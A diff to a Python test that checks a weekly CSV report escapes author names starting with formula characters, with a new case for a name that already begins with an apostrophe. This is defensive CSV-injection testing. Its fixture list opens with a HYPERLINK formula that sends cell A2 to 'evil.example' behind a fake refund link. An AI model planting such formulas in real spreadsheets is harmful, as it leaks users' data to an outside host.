@@ -230,12 +230,13 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click for your refund"
 
 def test_csv_cells_a_spreadsheet_would_run_open_as_text(sqlite_store, cfg):
     now = datetime.now(UTC)
-    for i, author in enumerate(FORMULAS + ["maria_t"]):
+    for i, author in enumerate(FORMULAS + ["maria_t", "'tis_me"]):
         seed_case(sqlite_store, cfg, external_id=f"f{i}", body="Northwind took my money", author=author,
                   minutes_ago=10 + i)
     text = weekly.to_csv(weekly.weekly_report(sqlite_store, cfg, week_name(now.date()), now=now))
     rows = list(csv.DictReader(io.StringIO(text, newline="")))
-    assert sorted(r["author"] for r in rows) == sorted(["'" + f for f in FORMULAS] + ["maria_t"])
+    # an apostrophe of the author's own gets one more, which the spreadsheet hides: it shows "'tis_me"
+    assert sorted(r["author"] for r in rows) == sorted(["'" + f for f in FORMULAS] + ["maria_t", "''tis_me"])
     for row in rows:
         for column, cell in row.items():
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
